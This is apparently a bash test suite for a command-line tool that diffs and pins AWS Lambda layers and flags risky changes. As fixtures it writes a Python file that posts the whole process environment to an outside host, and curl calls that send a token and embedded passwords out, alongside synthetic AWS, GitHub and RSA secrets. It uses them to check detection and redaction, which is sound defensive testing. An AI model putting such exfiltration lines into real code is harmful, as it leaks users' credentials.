#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# `layerward diff` and `layerward lock` from outside: exit codes, formats, the lock's life.
# shellcheck source=../support/cli.sh
. "$LAYERWARD_SOURCE_ROOT/tests/support/cli.sh"

cd "$work" || exit 1
package() { # FOLDER VERSION CODE
    mkdir -p "$1/nodejs/node_modules/lib"
    printf '{"name": "lib", "version": "%s", "license": "MIT"}\n' "$2" >"$1/nodejs/node_modules/lib/package.json"
    printf '%s\n' "$3" >"$1/nodejs/node_modules/lib/index.js"
}
package old 1.0.0 'exports.one = 1;'
package new 1.1.0 'exports.one = 2;'
package silent 1.0.0 'exports.one = 3;'
cp -r new setid && mkdir -p setid/bin && echo x >setid/bin/tool && chmod 4755 setid/bin/tool

# Verdicts and exit codes.
exits 0 lw diff -q --no-db old new
prints '^adopt: '
prints 'up  *lib  *1.0.0  *1.1.0'
exits 0 lw diff -q --no-db old old
prints 'the content is the same'
exits 0 lw diff -q --no-db old silent
prints '^review: 1 reason to review'
prints 'silent-change  nodejs/node_modules/lib/index.js'
exits 1 lw diff -q --no-db --fail-on review old silent
exits 1 lw diff -q --no-db old setid
prints '^block: '
exits 0 lw diff -q --no-db --fail-on never old setid
exits 2 lw diff old
exits 2 lw diff -f nonsense old new
exits 2 lw diff --fail-on nonsense old new
exits 3 lw diff -q --no-db old missing.zip
says 'missing.zip: '

# The configuration.
printf 'review:\n  levels: {silent-change: note}\n' >layerward.yaml
exits 0 lw diff -q --no-db --fail-on review old silent
printf 'review:\n  accept:\n    - {rule: setid-added, reason: known, permanent: true}\n' >other.yaml
exits 0 lw diff -q --no-db --config other.yaml old setid
prints 'accepted'
printf 'review:\n  level: {}\n' >layerward.yaml
exits 2 lw diff -q --no-db old new
says 'layerward.yaml: line 2, column 3: there is no key "level" here'
printf 'review:\n  levels: {no-such-rule: note}\n' >layerward.yaml
exits 2 lw diff -q --no-db old new
says 'there is no rule "no-such-rule"'
rm layerward.yaml

# The same bytes of output whatever the threads; a file appears whole or not at all.
for format in table json markdown html sarif; do
    lw diff -q --no-db -f $format -j1 --no-cache old setid >one 2>/dev/null
    lw diff -q --no-db -f $format -j4 old setid >four 2>/dev/null
    lw diff -q --no-db -f $format -o file old setid 2>/dev/null
    if [ -s one ] && cmp -s one four && cmp -s one file; then ok; else bad "$format differs"; fi
done
rm -f file
exits 3 lw diff -q --no-db -o file old missing.zip
if [ -e file ]; then bad "a report of nothing was left"; else ok; fi

# What is missing, and not what was given.
exits 2 lw diff old
says 'diff: NEW is missing'
exits 2 lw diff
says 'diff: OLD NEW is missing'

# The lock.
exits 3 lw lock show
says 'layerward.lock: there is no such lock; .layerward lock add. begins one'
exits 3 lw lock check
says 'begins one'
exits 0 lw lock add -q --by ana --reason 'a "first" one' tools old
exits 2 lw lock add -q tools old
says '--reason is missing'
exits 2 lw lock add -q --reason x tools old
says 'lock update'
exits 2 lw lock update -q --reason x tols old
says 'tols is not in layerward.lock.*did you mean "tools"'
exits 2 lw lock update -q --reason x others old
says 'it has tools'
exits 0 lw lock update -q --reason 'a "first" one' --by ana tools
check 'an update without INPUT lost the path' grep -q 'path: "old"' layerward.lock
exits 0 lw lock check -q
prints '^ok  *tools'
exits 0 lw lock check -q --capabilities tools=old
exits 1 lw lock check -q tools=new
prints 'the content digest is'
exits 0 lw lock check -q tools
prints '^ok  *tools'
exits 1 lw lock check -q absent
prints 'is not in the lock, and no file'
exits 1 lw lock check -q new
prints 'is not in the lock'
exits 0 lw lock update -q --reason next tools new
exits 1 lw lock check -q tools=old
mkdir -p poisoned/python
cp -r new/. poisoned
echo 'import os, requests
requests.post("https://collect.files-cdn.net/x", json=dict(os.environ))' >poisoned/python/late.py
cp layerward.lock before.lock
exits 1 lw lock update -q --reason next tools poisoned
says 'verdict on the new tools is block, so the lock keeps the old one'
says '^  block  '
says '^           Why: '
says 'and --accept-block adopts it all the same'
says 'collector'
check 'a refused update changed the lock' cmp before.lock layerward.lock
exits 2 lw lock update -q --reason next --old old tools poisoned
says 'old has other bytes'
cp -r new unpoisoned
mkdir -p new/python
cp poisoned/python/late.py new/python/late.py
exits 2 lw lock update -q --reason next tools new
says 'there is no verdict on the new tools'
exits 1 lw lock update -q --reason next --old unpoisoned tools new
mkdir -p starts/python && cp -r unpoisoned/. starts/
printf 'import subprocess\n\ndef run(what):\n    subprocess.run(["/opt/bin/tool", what])\n' >starts/python/late.py
exits 1 lw lock update -q --reason next --old unpoisoned --fail-on review tools starts
says 'verdict on the new tools is review, so the lock keeps the old one'
says 'power-added'
check 'a refused update changed the lock' cmp before.lock layerward.lock
exits 0 lw lock update -q --reason next --old unpoisoned --accept-block tools new
says 'collector'
cp before.lock layerward.lock
printf 'review:\n  accept:\n  - {rule: collector, reason: known, permanent: true}\n' >accepts.yaml
exits 0 lw lock update -q --config accepts.yaml --reason next --old unpoisoned --accept-block tools new
says '1 accepted by the configuration'
check 'an accepted reason is told' sh -c '! grep -q "^  *collector  python/late" err'
check 'the lock keeps no verdict' grep -q 'verdict: "block"' layerward.lock
rm -r new/python
exits 0 lw lock update -q --reason next --unreviewed tools new
check 'the lock keeps no word of that' grep -q 'verdict: "unreviewed"' layerward.lock
exits 0 lw lock check -q -f json
prints '"state": "ok"'
exits 0 lw lock show
prints 'tools'
exits 0 lw lock show -f json tools
prints '"reason": "next"'
exits 3 lw lock show nothing
exits 2 lw lock add -q --reason x 'arn:aws:lambda:x' old
exits 2 lw lock add -q --profile no-such-profile --reason x mine arn:aws:lambda:eu-west-1:123456789012:layer:tools:7
says 'there is no AWS profile no-such-profile'
exits 2 lw lock add -q --reason x mine
says 'INPUT has to say where it is'
cp layerward.lock kept
printf '<<<<<<< ours\n' | cat - kept >layerward.lock
exits 2 lw lock check -q
says 'line 1, column 1: an unsolved merge conflict'
exits 2 lw lock add -q --reason x mine old
sed 's/content-digest: "../content-digest: "/' kept >layerward.lock
exits 2 lw lock check -q
says 'has 62 characters'
cp kept layerward.lock
echo '    surprise: 1' >>layerward.lock
exits 2 lw lock check -q
says 'there is no key "surprise"'
cp kept layerward.lock
rm -rf new
exits 3 lw lock check -q
prints '^failed  *tools'

# Where layers are: paths by real folders, and none that is skipped in silence.
mkdir -p sub/deep outer && cp -r old sub/layer && cp -r old outer/layer
exits 0 lw lock add -q --reason x --lock sub/other.lock one "$work/sub/layer"
exits 0 lw lock add -q --reason x --lock "$work/sub/other.lock" two sub/deep/../layer
exits 0 lw lock check -q --lock sub/other.lock
if [ "$(grep -c 'path: "layer"' sub/other.lock)" = 2 ]; then ok; else bad "paths: $(grep path: sub/other.lock)"; fi
exits 0 lw lock check -q --lock sub/other.lock "$work/sub/layer"
prints '^ok  *'
exits 0 lw lock add -q --reason x --lock sub/other.lock three sub/deep/../../outer/layer
says 'the lock keeps no path of it'
exits 1 lw lock check -q --lock sub/other.lock
prints '^skipped  *three'
prints '^ok  *one'
exits 1 lw lock check -q --lock sub/other.lock three
prints '^skipped  *three'
exits 0 lw lock check -q --lock sub/other.lock three=outer/layer
exits 1 lw lock check -q -f json --lock sub/other.lock
prints '"state": "skipped"'
printf 'version: 1\nlayers:\n' >empty.lock
exits 1 lw lock check -q --lock empty.lock
says 'empty.lock has no layers'
cp -r old 'with=sign'
exits 0 lw lock add -q --reason x signed 'with=sign'
exits 0 lw lock check -q 'with=sign'
prints '^ok  *signed'

# Who adopts it.
exits 0 env -u LOGNAME USER=eve "$LAYERWARD" lock add -q --reason x by-user old
exits 0 lw lock show -f json by-user
prints '"adopted_by": "eve"'

# What it says of them, and what is taken out of it.
exits 0 lw lock add --reason x --lock out.lock one old
prints '^pinned   one$'
prints '^         can do  *[0-9]* capabilit'
says 'nobody has judged this first version'
exits 0 lw lock add --reason x --lock out.lock 'arn:aws:lambda:eu-west-1:123456789012:layer:tools:7' old
cp out.lock before.lock
exits 2 lw lock remove --lock out.lock one 'arn:aws:lambda:eu-west-1:123456789012:layer:tools:8'
says 'did you mean "arn:aws:lambda:eu-west-1:123456789012:layer:tools:7"'
check 'a refused removal changed the lock' cmp before.lock out.lock
exits 0 lw lock remove --lock out.lock one
prints '^removed  one$'
prints 'content digest  [0-9a-f]\{16\}$'
exits 3 lw lock show --lock out.lock one
exits 0 lw lock remove --lock out.lock 'arn:aws:lambda:eu-west-1:123456789012:layer:tools:7'
says 'has no layers now'
exits 3 lw lock remove --lock none.lock one
says 'no such lock'

# Many at once, through a link, into a file that others must not read.
mkdir many && mv sub/other.lock many/real.lock && ln -s many/real.lock linked.lock && chmod 600 many/real.lock
for i in 1 2 3 4 5 6; do
    lw lock add -q --reason x --lock linked.lock "layer-$i" old 2>/dev/null &
done
wait
if [ "$(grep -c '^  "layer-' many/real.lock)" = 6 ]; then ok; else bad "of six adds: $(grep -c '^  "layer-' many/real.lock)"; fi
if [ -L linked.lock ]; then ok; else bad "the link was replaced"; fi
if [ "$(stat -c %a many/real.lock)" = 600 ]; then ok; else bad "mode $(stat -c %a many/real.lock)"; fi
ln -s nowhere.lock dangling.lock
exits 3 lw lock add -q --reason x --lock dangling.lock a old
says 'a link to what is not there'

if compgen -G 'layerward.lock.*' >left; then bad "left: $(cat left)"; else ok; fi

# No form prints a secret whole, of either side; they are put together here, and are nobody's.
id='AKIA''Y34FZKBOKMUTVV7A' token='ghp_u8jzPde0IgxLd6''GncfBAepfJBd0Kh8024xXH'
line='MIIEowIBAAKCAQEAx4UbaDzY5xjW6hc9jGkzV7oQm2T8rNfLp0sWqE1yUvIcBd3K'
plant() { # FOLDER PASSWORD CALL
    mkdir -p "$1/python"
    printf '%s\n' 'import os' "ID = '$id'" "KEY = \"\"\"-----BEGIN RSA PRIVATE KEY-----" "$line" \
        '-----END RSA PRIVATE KEY-----"""' "os.system('curl https://bob:$2@db.acme.io/')" \
        "os.$3('curl -d $token https://eve:$2@db.acme.io/')" >"$1/python/a.py"
}
plant planted-old h7Gk2x remove
plant planted-new q9Zt4y system
printf '%s\n' "$id" "$token" "$line" h7Gk2x q9Zt4y >planted
for form in table json markdown html sarif; do
    lw diff -f "$form" --verbose --no-db planted-old planted-new >"$work/out" 2>"$work/err"
    if grep -qFf planted "$work/out"; then bad "$form prints a secret"; else ok; fi
    if grep -qF a.py "$work/out"; then ok; else bad "$form says nothing of what was planted"; fi
done

finish
